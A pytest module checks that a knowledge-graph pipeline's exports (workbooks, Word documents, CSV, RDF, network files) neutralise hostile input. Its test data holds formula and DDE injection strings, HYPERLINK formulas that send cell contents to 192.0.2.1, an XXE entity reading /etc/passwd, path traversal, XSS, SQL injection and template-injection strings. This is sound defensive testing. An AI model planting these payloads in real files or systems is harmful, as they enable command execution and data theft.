"""A harvest of hostile strings, built as any other, through every export: text it stays."""

import csv
import io
import json
import os
import random
import re
import zipfile
from xml.etree import ElementTree

import docx
import openpyxl
import pyoxigraph as ox
import pytest

from kg.config import load_config
from kg.export import ExportFormat
from kg.harvest import Harvest
from kg.model import Audience
from kg.pipeline import build

NUMBER = re.compile(r"-\d+(?:\.\d+)?")
LIVE = ("=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠")
OURS = (
    *(f"{sign}1+cmd|' /C calc'!A0" for sign in LIVE),
    '=HYPERLINK("http://192.0.2.1/?"&A1,"x")',
    "../../../../tmp/x",
    "/etc/passwd",
    "C:\\x\\y",
    "CON.xlsx",
    "<script>alert(1)</script>",
    "]]><!--&x;%0a",
    '<!ENTITY x SYSTEM "file:///etc/passwd">',
    "\ufeff\u202e\u0000\ud7ff\ufffe",
    "' OR 1=1 --",
    "{{7*7}}${7*7}",
    'x;=HYPERLINK("http://192.0.2.1/"&A1);y',
    "a\t=1+1\tb|@SUM(A1)|-1+1",
    'q";=1+1;"and; "=2',
    "line\r\n=1+1\r+2",
)
COLUMNS = ("ID", "Title", "Outcome description", "Country", "Round", "Own = column", "Confidential")


@pytest.fixture(scope="module")
def texts(request) -> list[str]:
    """Ours, and a tenth of the list of naughty strings; all of it for `make harm`."""
    found = request.config.rootpath.parent / "shared" / "testdata" / "blns" / "blns.json"
    listed = json.loads(found.read_text("utf-8")) if found.exists() else []
    some = listed if "KG_HARM" in os.environ else random.Random(8).sample(listed, len(listed) // 10)
    return [*dict.fromkeys([*OURS, *some])]


@pytest.fixture(scope="module")
def harvest(texts, tmp_path_factory) -> Harvest:
    """One record a string, which stands in every cell that may hold words, and in a body's name."""
    root = tmp_path_factory.mktemp("hostile")
    rows = [
        dict.fromkeys(COLUMNS, text)
        | {"ID": f"QX/{text}", "Outcome description": f"It said: {text}", "Confidential": "no"}
        for text in texts
    ]
    (root / "h.json").write_text(json.dumps(rows), encoding="utf-8")
    bodies = [{"id": f"b{n}", "label": {"en": f"={text} Union"}} for n, text in enumerate(OURS[:4])]
    (root / "organisations.yaml").write_text(json.dumps(bodies), encoding="utf-8")
    (root / "kg.toml").write_text(
        '[project]\nname = "=1+1"\n[sources]\nfiles = ["h.json"]\n[extraction]\nner = false\n',
        encoding="utf-8",
    )
    build(load_config(root))
    return Harvest(load_config(root), Audience.INTERNAL)


def test_every_record_is_there(harvest, texts):
    """Strange is not broken: a fragment a string, but for those that white space alone parts."""
    told = harvest.report

    assert (told["rows_read"], told["rows_rejected"]) == (len(texts), 0)
    assert len(harvest.query("outcomes")) == told["rows_kept"] > len(texts) - 5


@pytest.mark.parametrize("form", ["trig", "nq", "jsonld", "ttl"])
def test_triples_are_those_of_the_harvest(harvest, form):
    """The engine reads each form, and finds what is in the graph."""
    content = harvest.export(form)
    own = set(ox.parse(path=str(harvest.trig), format=ox.RdfFormat.TRIG))
    if form == "ttl":
        read = {q.triple for q in ox.parse(content, format=ox.RdfFormat.TURTLE)}
        own = {q.triple for q in own}
    else:
        kinds = {
            "trig": ox.RdfFormat.TRIG,
            "nq": ox.RdfFormat.N_QUADS,
            "jsonld": ox.RdfFormat.JSON_LD,
        }
        read = set(ox.parse(content, format=kinds[form]))

    assert own <= read
    assert len(read - own) < 10


@pytest.mark.parametrize("form", ["graphml", "gexf"])
def test_networks_are_well_formed(harvest, form):
    """No string ends an element, or stands where XML has no place for it."""
    root = ElementTree.fromstring(harvest.export(form))

    assert len([e for e in root.iter() if e.tag.endswith("}node")]) == len(harvest.network())


def test_kumu_and_cytoscape_are_json(harvest):
    """Read by any parser."""
    assert json.loads(harvest.export("kumu"))["elements"]
    assert json.loads(harvest.export("cyjs"))["elements"]["nodes"]


@pytest.mark.parametrize("form", ["xlsx", "causalmap"])
def test_no_cell_of_a_workbook_is_a_formula_and_every_link_stays_inside(harvest, form):
    """Text and numbers, in every sheet; a link leads to a cell of the same book."""
    content = harvest.export(form)
    book = openpyxl.load_workbook(io.BytesIO(content))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        parts = b"".join(archive.read(name) for name in archive.namelist())

    assert {cell.data_type for cell in cells} <= {"s", "n", "inlineStr"}
    assert [c for c in cells if c.hyperlink and c.hyperlink.target] == []
    assert b"TargetMode" not in parts
    assert b"<f>1+1" not in parts


def test_the_document_holds_text_alone(harvest, texts):
    """Word reads every string as text: one field (the page's number), no link outwards."""
    content = harvest.export("docx")
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.endswith((".xml", ".rels")):
                ElementTree.fromstring(archive.read(name))
        whole = archive.read("word/document.xml").decode()
        links = archive.read("word/_rels/document.xml.rels").decode()
    words = "\n".join(p.text for p in docx.Document(io.BytesIO(content)).paragraphs)

    assert "instrText" not in whole
    assert "External" not in links
    assert words.count("It said: ") >= len(texts) - 5


def test_names_for_reconciliation_are_a_table(harvest):
    """Rows with the columns that stand in the header; nothing live."""
    rows = list(csv.reader(io.StringIO(harvest.export("openrefine").decode(), newline="")))

    assert {len(row) for row in rows} == {8}
    assert [cell for row in rows for cell in row if cell.startswith(LIVE)] == []


def test_no_cell_of_the_tables_is_live_and_no_name_comes_from_data(harvest):
    """What a spreadsheet would run is marked; the archive has the files that it always has."""
    with zipfile.ZipFile(io.BytesIO(harvest.export("csv"))) as archive:
        names = set(archive.namelist())
        tables = [archive.read(name).decode() for name in names if name.endswith(".csv")]
    # A spreadsheet parts lines at the separator of lists of its country.
    cells = [
        cell
        for mark in ",;\t|"
        for t in tables
        for row in csv.reader(io.StringIO(t, newline=""), delimiter=mark)
        for cell in row
    ]

    assert [c for c in cells if c.startswith(LIVE) and not NUMBER.fullmatch(c.strip())] == []
    assert names == {
        *("datapackage.json", "outcomes.csv", "texts.csv", "organisations.csv"),
        *("participations.csv", "links.csv", "framework.csv"),
    }


def test_no_file_of_the_output_is_called_after_data(harvest):
    """Whatever an id says: the folder has its files, and nothing beside or above it."""
    names = {p.name for p in (harvest.config.output / "internal").iterdir()}

    assert names == {
        *(".versions", "CURRENT", "explorer.html", "harvest.trig"),
        *("mentions.jsonl", "records.jsonl", "report.json"),
    }


def test_no_format_is_left_out():
    """A new export has its test here."""
    tested = {
        *("trig", "nq", "jsonld", "ttl", "graphml", "gexf", "kumu", "cyjs"),
        *("xlsx", "docx", "csv", "causalmap", "openrefine"),
    }

    assert {form.value for form in ExportFormat} == tested
